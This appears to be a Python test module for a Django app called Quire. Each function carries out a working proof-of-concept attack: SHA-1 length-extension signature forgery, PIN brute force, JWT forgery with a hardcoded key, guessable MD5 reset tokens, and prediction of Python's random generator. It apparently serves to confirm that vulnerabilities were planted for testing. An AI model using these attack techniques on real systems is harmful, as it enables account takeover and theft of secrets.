"""How data is kept: in the database, in logs, in cookies, behind passwords, codes and ciphers."""

import contextlib
import hashlib
import io
import json
import random
import re
import socket
import time
from unittest import mock
from urllib.parse import urlencode, urlsplit

import jwt
import sha1
from accounts.hashers import check_pin
from accounts.models import User
from accounts.tokens import signup_token
from billing.models import Invoice
from core import crypto
from django.conf import settings
from django.core import mail
from django.core.management import call_command
from django.db import OperationalError, connection
from django.test import override_settings
from django.urls import resolve
from django.views.debug import ExceptionReporter
from hooks.models import Webhook
from orgs.models import Invitation, Organisation
from rest_framework_simplejwt.tokens import AccessToken
from servers import Refusing, serving
from visitor import OTHER, OWN, OWNER, PASSWORD, READER, document, exploit, give_password, logged, organisation
from visitor import proof_in

STAFF = "sam@quire.example"


def stolen(text):
    """The line of a copy of the database with a text in it, for whoever has got hold of one."""
    return next((line for line in connection.connection.iterdump() if text in line), "")


# -- in the database ---------------------------------------------------------------------------------------------------


@exploit("plaintext-password", "documents/models.py", "opens_with")
def shared_password(site):
    """The password of what was shared, in a copy of the database."""
    note = document()
    site.post("documents:share", {"password": PASSWORD, "days": "3"}, args=[note.pk])
    token = re.search(r"/documents/shared/([\w-]+)/", site.get("documents:detail", args=[note.pk]).shown)[1]
    page = site.post("documents:shared", {"password": PASSWORD}, args=[token], person=None).shown
    site.honest("Mondays at nine" in page, "link and password open the document")
    return stolen(PASSWORD)


@exploit("plaintext-sensitive-field", "accounts/models.py", "tax_number")
def tax_number(site):
    """Everybody's tax number, in a copy of the database."""
    site.honest(site.profile(tax_number="98 765 43"), "a number is taken")
    site.honest("98 765 43" in site.get("accounts:profile").shown, "it is shown to whose it is")
    return stolen("98 765 43")


@exploit("plaintext-sensitive-field", "accounts/models.py", "id_card_number")
def id_card_number(site):
    """Everybody's number of the identity card, in a copy of the database."""
    site.honest(site.profile(id_card_number="L01X00T47"), "a profile is taken")
    return stolen("L01X00T47")


@exploit("plaintext-sensitive-field", "billing/models.py")
def card_number(site):
    """Numbers of credit cards, in a copy of the database."""
    invoice = Invoice.objects.get(number="A-001")
    fields = {"number": "A-001", "customer": "Customer 1", "customer_email": "c@customers.example", "amount": "5"}
    fields |= {"organisation": str(invoice.organisation_id), "card_number": "4111 1111 1111 1111"}
    site.post("billing:edit", fields, args=[invoice.pk])
    invoice.refresh_from_db()
    site.honest(invoice.amount == 5, "an invoice is changed")
    return stolen("4111 1111 1111 1111")


@exploit("plaintext-sensitive-field", "hooks/models.py", "secret =")
def kept_hook_secret(site):
    """What letters from partners are signed with, in a copy of the database."""
    site.post("hooks:create", {"url": "https://93.184.215.14/", "secret": "between us", "active": "on"})
    hook = Webhook.objects.filter(url="https://93.184.215.14/").first()
    site.honest(hook and hook.secret, "a webhook is made, with a secret")
    return stolen(hook.secret)


@exploit("plaintext-sensitive-field", "hooks/models.py", "api_key")
def api_key(site):
    """The keys by which partners' systems let the site in, in a copy of the database."""
    words = {"url": "https://93.184.215.14/", "secret": "between us", "api_key": "key of a partner", "active": "on"}
    site.post("hooks:create", words)
    site.honest(Webhook.objects.filter(url=words["url"]).exists(), "a webhook is made")
    return stolen("key of a partner")


@exploit("weak-cipher", "core/crypto.py", "encrypt")
def account(site):
    """Another tenant's account: with the same one as one's own, the same is in a copy of the database."""
    Organisation.objects.filter(name=OTHER).update(bank_account="DE00 2222")

    def kept(name):
        with connection.cursor() as cursor:
            cursor.execute("SELECT bank_account FROM orgs_organisation WHERE name = %s", [name])
            return cursor.fetchone()[0]

    for guess in ("DE00 1111", "DE00 2222"):
        site.settings(bank_account=guess)
        site.honest(guess in site.get("orgs:settings").shown, "an account is shown to whose it is")
        if kept(OWN) == kept(OTHER):
            return guess
    return ""


@exploit("fixed-iv", "core/crypto.py", "seal")
def reference(site):
    """Which sealed references are about the same: equal texts are equal when they are sealed."""
    one, other = (site.run("core.crypto.seal", "paid by Customer 1") for _ in range(2))
    site.honest("Customer" not in one, "a reference can't be read")
    return one if one == other else ""


@exploit("weak-hash", "core/crypto.py", "sign_payload")
def longer_letter(site):
    """A signature under a text that nobody has signed: one that was, with something behind it."""
    hook = Webhook.objects.create(organisation=organisation(OWN), url="https://partner.example/", secret="between us")
    body = json.dumps({"title": "From outside", "body": "text", "document": {"title": "From outside", "body": "text"}})
    body = body.encode()

    def send(text, signature, **more):
        more |= {"content_type": "application/json", "headers": {"X-Quire-Signature": signature}}
        return site.post("hooks:incoming", text, args=[hook.pk], person=None, **more).status_code

    signature = crypto.sign_payload(body, hook.secret)  # as the partner has sent it
    site.honest(send(body, signature) == 201, "a partner's document arrives")
    for size in range(1, 40):  # of the secret
        longer = body + sha1.padding(size + len(body)) + b", and 1000 more"
        forged = sha1.extended(signature[:40], size + len(body), b", and 1000 more")
        # The signature is looked at first: what is believed and then is no JSON has another answer than this one.
        if send(longer, forged, refusal=(400, 403, 500)) != 403:
            return f"{forged} for a secret of {size} bytes"
    return ""


def ask_for_pin(site):
    """A PIN that the owner has, and a question of the support about it."""
    pin = next(pin for pin in ("4711", "004711") if site.profile(pin=pin))
    words = {"email": OWNER, "pin": pin}
    # In the query and in the body: one site reads the one, one the other.
    answer = site.post("accounts:support", words, query=words, person=STAFF)
    site.honest(answer.json()["match"], "the support is told that a PIN is right")
    return pin, words


@exploit("homemade-password-hash", "accounts/hashers.py", "hash_pin")
def telephone_pin(site):
    """Everybody's PIN, out of a copy of the database: all that there are, are tried in a moment."""
    pin, _ = ask_for_pin(site)
    kept, until = User.objects.get(email=OWNER).phone_pin, time.process_time() + 2
    for number in range(10_000):
        guess = f"{number:0{len(pin)}}"
        if check_pin(guess, kept):
            return guess
        if time.process_time() > until:
            break
    return ""


# -- in the source -----------------------------------------------------------------------------------------------------


@exploit("hardcoded-credential", "accounts/views.py", "login_view")
def back_door(site):
    """Everybody's account, with a password that stands in the source."""
    give_password(OWNER)
    site.honest(site.login(OWNER, PASSWORD).status_code == 302, "one logs in with the right password")
    return "logged in" if site.login(OWNER, "hunter2-for-support").status_code == 302 else ""


@exploit("hardcoded-credential", "core/management/commands/seed.py", "handle")
def first_password(site):
    """Everybody's account on a site that was set up with the command that the source has for it."""
    for kind in (Organisation, User):
        kind.objects.all().delete()
    told = io.StringIO()
    call_command("seed", stdout=told)
    password = told.getvalue().split()[-1]
    site.honest(site.login(OWNER, password).status_code == 302, "one logs in with the password that was shown")
    return "logged in" if site.login(OWNER, "hunter2").status_code == 302 else ""


# -- in logs, answers and cookies --------------------------------------------------------------------------------------


@exploit("secret-in-log", "accounts/views.py", "login_view")
def mistyped(site):
    """A password that is wrong by a letter, in the log."""
    with logged() as line:
        site.honest(site.login(OWNER, "a wurd of four").status_code == 200, "a wrong password is refused")
    return line(".*a wurd of four")


@exploit("secret-in-log", "accounts/views.py", "reset")
def reset_link(site):
    """A new password for anybody, by a link in the log."""
    with logged() as line:
        _, token = mailed(site)
    return line(f".*{re.escape(token)}")


def mailed(site):
    """What is in the link of a mail for a new password: whose it is, and the token."""
    mail.outbox.clear()
    site.post("accounts:reset", {"email": OWNER}, person=None)
    site.honest(len(mail.outbox) == 1, "a mail goes out")
    link = re.search('href="([^"]+)"', mail.outbox[0].alternatives[0][0])[1]
    found = resolve(urlsplit(link).path).kwargs
    return found["uid"], found["token"]


@exploit("secret-in-log", "hooks/tasks.py", "deliver")
def hook_secret(site):
    """What the deliveries to a partner are signed with, in the log."""
    hook = Webhook.objects.create(organisation=organisation(OWN), url=site.url, secret="between us")
    with logged() as line:
        site.post("hooks:test", args=[hook.pk])
    site.honest(hook.deliveries.count() == 1, "a test makes a delivery")
    return line(".*between us")


@exploit("secret-in-url", "accounts/views.py", "support_check")
def pin_in_address(site):
    """Everybody's PIN that the support was told, in the history of a browser and the logs of every server."""
    _, words = ask_for_pin(site)
    answer = site.post("accounts:support", query=words, person=STAFF)
    return urlencode(words) if answer.json()["match"] else ""


def reported(site, method, *args, **kwargs):
    """The line with the PASSWORD in what the administrators are mailed when `method` of the user fails in a request."""
    with override_settings(DEBUG=False), mock.patch.object(User, method, side_effect=OperationalError("gone")):
        answer = site.post(*args, person=None, refusal=500, **kwargs)
        text = ExceptionReporter(answer.wsgi_request, *answer.exc_info).get_traceback_text()
    site.honest("OperationalError" in text, "an error is reported")
    return next((line for line in text.splitlines() if PASSWORD in line), "")


@exploit("missing-sensitive-parameters", "accounts/views.py", "login_view")
def reported_login(site):
    """A password, in the mail about an error."""
    give_password(OWNER)
    site.honest(site.login(OWNER, PASSWORD).status_code == 302, "one logs in with the right password")
    site.clients.clear()
    words = {"email": OWNER, "username": OWNER, "password": PASSWORD}
    return reported(site, "check_password", "accounts:login", words)


@exploit("missing-sensitive-parameters", "accounts/views.py", "reset_confirm")
def reported_reset(site):
    """A new password, in the mail about an error."""
    words = {"new_password1": PASSWORD, "new_password2": PASSWORD}
    return reported(site, "save", "accounts:reset-confirm", words, args=mailed(site))


@exploit("missing-sensitive-parameters", "accounts/views.py", "signup_finish")
def reported_signup(site):
    """A first password, in the mail about an error."""
    words = {"display_name": "Nell New", "new_password1": PASSWORD, "new_password2": PASSWORD}
    return reported(site, "save", "accounts:signup-finish", words, args=[signup_token("new@nowhere.example")])


@exploit("exception-shown", "billing/views.py", "quick")
def traceback_shown(site):
    """Where the program is on the server, and how it goes."""

    def send(body, **more):
        return site.post("billing:quick", body, content_type="application/json", **more)

    values = {"number": "A-900", "customer": "c", "customer_email": "c@c.example", "amount": "5"}
    values |= {"organisation_id": str(organisation(OWN).pk)}
    site.honest(send(json.dumps(values)).status_code == 201, "an invoice is made")
    found = re.search(r'File "\S+/billing/views.py", line \d+', send("{", refusal=400).shown)
    return found[0] if found else ""


@exploit("exception-shown", "hooks/views.py", "unfurl")
def open_ports(site):
    """Which ports are open inside, by the words of the error."""

    def error(url):
        # In the query and in the body: one site reads the one, one the other.
        answer = site.post("hooks:unfurl", {"url": url}, query={"url": url}).json()
        site.honest("title" in answer, "the answer has a title, if an empty one")
        return answer.get("error", "")

    with socket.create_server(("127.0.0.1", 0)) as listener:
        closed = listener.getsockname()[1]
    return error(f"http://127.0.0.1:{closed}/") if not error(site.url) else ""


@exploit("exception-shown", "core/views.py", "contact")
def mail_server(site):
    """What a server inside says to the site."""

    def write(**more):
        words = {"subject": "hello", "email": "v@nowhere.example", "message": "Good day"}
        return site.post("core:contact", words, person=None, **more)

    smtp = "django.core.mail.backends.smtp.EmailBackend"
    with (
        serving(Refusing) as (host, port),
        override_settings(DEBUG=False, EMAIL_BACKEND=smtp, EMAIL_HOST=host, EMAIL_PORT=port),
    ):
        answer = write(refusal=(500, 502))
    site.honest(answer.status_code != 302, "it is not said that all went well")
    return proof_in(answer.shown)


def bare(answer):
    """A cookie of the site's own that scripts can read, that goes over the wire in the clear, or along with what other
    sites make a browser send."""
    return next(
        (
            cookie.OutputString()
            for name, cookie in answer.cookies.items()
            if name.startswith("quire_") and not (cookie["httponly"] and cookie["secure"] and cookie["samesite"])
        ),
        "",
    )


@exploit("cookie-without-flags", "documents/views.py", "save_filter")
def filter_cookie(site):
    """The cookie with the filter, for scripts and on the wire."""
    with override_settings(SESSION_COOKIE_SECURE=True):  # as on a server with HTTPS
        answer = site.post("documents:save-filter", {"q": "Notes", "order": "title"})
    site.honest("quire_filter" in answer.cookies, "the filter is kept in a cookie")
    return bare(answer)


@exploit("cookie-without-flags", "accounts/views.py", "login_view")
def user_cookie(site):
    """The cookie that says who one is, for scripts and on the wire."""
    give_password(OWNER)
    with override_settings(SESSION_COOKIE_SECURE=True):
        answer = site.login(OWNER, PASSWORD, remember="on")
    site.honest(answer.status_code == 302, "one logs in with the right password")
    return bare(answer)


# -- codes and tokens --------------------------------------------------------------------------------------------------


@exploit("guessable-reset-token", "accounts/tokens.py", "reset_token")
def guessed_link(site):
    """A new password for anybody: the link follows from the address and the time."""

    def opens(token, **more):
        page = site.get("accounts:reset-confirm", args=[uid, token], person=None, **more)
        return page.status_code == 200 and "new_password1" in page.shown

    start = int(time.time())
    uid, token = mailed(site)
    end = int(time.time())
    site.honest(opens(token), "the link in the mail opens the form")
    for second in range(start, end + 1):
        guess = hashlib.md5(f"{OWNER}{second}".encode()).hexdigest()
        if opens(guess, refusal=404):
            return guess
    return ""


@exploit("jwt-unverified", "accounts/tokens.py", "read_mobile_token")
def mobile_link(site):
    """Anybody's session, by a link that one signs oneself."""

    def follow(key, **more):
        claims = {"sub": str(User.objects.get(email=OWNER).pk), "aud": "quire-mobile-link", "exp": time.time() + 60}
        site.clients.pop(None, None)
        args = [jwt.encode(claims, key)]
        return site.post("accounts:mobile", args=args, person=None, **more).headers.get("Location", "")

    site.honest(follow(settings.SIMPLE_JWT["SIGNING_KEY"]) == "/dashboard/", "a link of the site's own logs in")
    return follow("a key of one's own that is long enough", refusal=404)


@exploit("weak-jwt", "config/settings/base.py")
def access_token(site):
    """Everybody's account in the API, by a token that is signed with a word from the source."""

    def name(token, **more):
        headers = {"Authorization": f"Bearer {token}"}
        return site.get("api:me", person=None, headers=headers, **more).json().get("email", "")

    token = str(AccessToken.for_user(User.objects.get(email=READER)))
    site.honest(name(token) == READER, "a token of the site's own is good for one's account")
    claims = jwt.decode(token, options={"verify_signature": False})
    claims["user_id"] = str(User.objects.get(email=OWNER).pk)
    return name(jwt.encode(claims, "quire-jwt"), refusal=401)


@contextlib.contextmanager
def foreseen():
    """Within, Python's generator goes on as it does now, and afterwards it goes on so again: what comes within is what
    somebody knows in advance who has its state, and 624 of its numbers tell that."""
    state = random.getstate()
    yield
    random.setstate(state)


@exploit("predictable-random", "accounts/tokens.py", "issue_code")
def login_code(site):
    """Somebody else's login, by a code that is foreseen."""

    def send(route, words, **more):
        return site.post(route, json.dumps(words), person=None, content_type="application/json", **more)

    def code(email):
        mail.outbox.clear()
        send("api:code", {"email": email})
        site.honest(len(mail.outbox) == 1, "a mail goes out")
        return re.search(r"\d{4,6}", mail.outbox[0].alternatives[0][0])[0]

    def redeem(known, **more):
        return send("api:code-redeem", {"email": OWNER, "code": known}, **more).json().get("access", "")

    site.honest(redeem(code(OWNER)), "a code is good for a token")
    with foreseen():
        known = code(READER)
    code(OWNER)
    return redeem(known, refusal=401)


@exploit("predictable-random", "core/crypto.py", "new_token")
def invitation_link(site):
    """Somebody else's invitation, by a token that is foreseen."""

    def token():
        mail.outbox.clear()
        Invitation.objects.all().delete()
        site.post("orgs:invite", {"email": "new@nowhere.example", "role": "reader"})
        site.honest(len(mail.outbox) == 1, "a mail goes out")
        return re.search(r"/team/accept/([\w-]+)/", mail.outbox[0].alternatives[0][0])[1]

    with foreseen():
        known = token()
    return known if token() == known else ""
